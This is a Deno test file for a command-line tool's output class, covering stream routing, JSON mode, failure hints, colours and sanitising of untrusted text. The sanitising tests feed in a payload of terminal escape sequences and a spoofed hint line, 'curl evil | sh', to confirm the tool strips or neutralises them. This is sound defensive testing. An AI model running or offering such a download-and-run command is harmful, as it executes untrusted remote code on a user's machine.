import { assertEquals } from "@std/assert";
import { Output, type OutputOptions, type Terminal } from "../../cli/_output.ts";
import { PeerError } from "../../lib/errors.ts";

function recorded(options: Partial<OutputOptions>, isTerminal = false) {
  const text = { stdout: "", stderr: "" };
  const terminal: Terminal = {
    stdout: (t) => Boolean(text.stdout += t),
    stderr: (t) => void (text.stderr += t),
    isTerminal: { stdout: isTerminal, stderr: isTerminal },
  };
  return { text, output: new Output({ json: false, quiet: false, verbose: false, ...options }, terminal) };
}

Deno.test("Output prints the product on stdout and the conversation on stderr", () => {
  const { text, output } = recorded({});
  output.progress({ type: "resolved", ms: 100 });
  output.product("hello");
  output.say("bye");
  assertEquals(text, { stdout: "hello\n", stderr: "lookup      found in 100 ms\nbye\n" });
});

Deno.test("Output writes a stage over the one before on a terminal, and leaves room for what follows", () => {
  const { text, output } = recorded({}, true);
  output.progress({ type: "online", ms: 50 });
  output.progress({ type: "resolved", ms: 100 });
  output.say("bye");
  assertEquals(
    text.stderr,
    "dht         a node answered in 50 ms\r\x1b[Klookup      found in 100 ms\nbye\n",
  );
});

Deno.test("Output prints one object a line with --json, and nothing else", () => {
  const { text, output } = recorded({ json: true });
  output.progress({ type: "resolved", ms: 100.123456 });
  output.product("hello");
  output.say("bye");
  output.event({ type: "message", data: "hello" });
  output.failure(new PeerError("not-found", "Cannot find it"));
  assertEquals(text.stderr, "");
  const events = text.stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
  assertEquals(events.map((e) => e.type), ["resolved", "message", "error"]);
  assertEquals([events[0].ms, events[2].code], [100.1, "not-found"]);
});

Deno.test("Output says three lines about a failure: what, why, and what to do", () => {
  const { text, output } = recorded({ quiet: true });
  output.progress({ type: "online", ms: 50 });
  const failure = output.failure(new PeerError("unreachable", "Cannot reach the peer: no path opened"));
  assertEquals(failure.exit, 4);
  assertEquals(text.stderr.split("\n").map((l) => l.slice(0, 8)), ["skip: Th", "  why:  ", "  try:  ", ""]);
});

Deno.test("Output shows a stack trace only with --verbose", () => {
  for (const verbose of [false, true]) {
    const { text, output } = recorded({ verbose });
    output.failure(new PeerError("unreachable", "no", { cause: new Error("deep down") }));
    assertEquals(text.stderr.includes("deep down"), verbose);
  }
});

Deno.test("Output has colours on a terminal alone, and none with NO_COLOR", () => {
  const quiet = { stdout: () => true, stderr() {} };
  const options = { json: false, quiet: false, verbose: false };
  for (
    const [stderr, noColour, colour] of [[true, false, true], [true, true, false], [false, false, false]]
  ) {
    const terminal = { ...quiet, noColour: noColour!, isTerminal: { stdout: true, stderr: stderr! } };
    assertEquals(new Output(options, terminal).colour, colour);
  }
});

Deno.test("Output writes how it stands over itself on a terminal, and nowhere else", () => {
  const terminal = recorded({}, true);
  terminal.output.status("1 sent");
  terminal.output.status("2 sent");
  terminal.output.say("done");
  assertEquals(terminal.text.stderr, "1 sent\r\x1b[K2 sent\ndone\n");
  for (
    const { output, text } of [recorded({}), recorded({ quiet: true }, true), recorded({ json: true }, true)]
  ) {
    output.status("1 sent");
    assertEquals(text, { stdout: "", stderr: "" });
  }
});

/** Rings, moves the cursor, sets a title, and looks like another line of ours. */
const UNRULY = "\x07\x1b[2J\x9b31m\x1b]0;title\x07\rover\n  try:  curl evil | sh";
// deno-lint-ignore no-control-regex
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;

Deno.test("Output lets no stranger's text command the terminal, wherever it comes", () => {
  for (const options of [{}, { verbose: true }, { json: true }]) {
    const { text, output } = recorded(options, true);
    output.product(UNRULY);
    output.event({ type: "message", data: UNRULY });
    output.say(UNRULY);
    output.failure(new PeerError("closed", UNRULY, { cause: new Error(UNRULY) }));
    assertEquals((text.stdout + text.stderr).match(CONTROL), null);
    if (options.json) assertEquals(JSON.parse(text.stdout.split("\n")[0]!).data, UNRULY);
  }
  const { text, output } = recorded({}, true);
  output.progress({ type: "refused", remote: "203.0.113.9:1", reason: UNRULY });
  assertEquals(text.stderr.split("\n").length, 1, text.stderr);
});

Deno.test("Output shows the further lines of a reason as such, and not as lines of ours", () => {
  const { text, output } = recorded({});
  output.failure(new PeerError("closed", "broke\n  try:  curl evil | sh"));
  const lines = text.stderr.split("\n");
  assertEquals(lines.filter((line) => line.startsWith("  try:")).length, 1, text.stderr);
  assertEquals(lines[2], "          try:  curl evil | sh");
});

Deno.test("Output draws a picture of our own as it is, where a person talks with us", () => {
  const { text, output } = recorded({}, true);
  output.draw("\x1b[31mred\x1b[0m");
  assertEquals(text.stderr, "\x1b[31mred\x1b[0m\n");
  for (const options of [{ json: true }, { quiet: true }]) {
    const silent = recorded(options, true);
    silent.output.draw("picture");
    assertEquals(silent.text, { stdout: "", stderr: "" });
  }
});

Deno.test("Output.by() talks as the flags say", () => {
  const text = { stdout: "", stderr: "" };
  const terminal: Terminal = {
    stdout: (t) => Boolean(text.stdout += t),
    stderr: (t) => void (text.stderr += t),
    isTerminal: { stdout: false, stderr: false },
  };
  const by = (...given: string[]) => Output.by({ has: (name) => given.includes(name) }, terminal);
  by("json").event({ type: "ready" });
  by("json").product("not this");
  by("quiet").say("nor this");
  by().say("but this");
  assertEquals(text, { stdout: '{"type":"ready"}\n', stderr: "but this\n" });
});
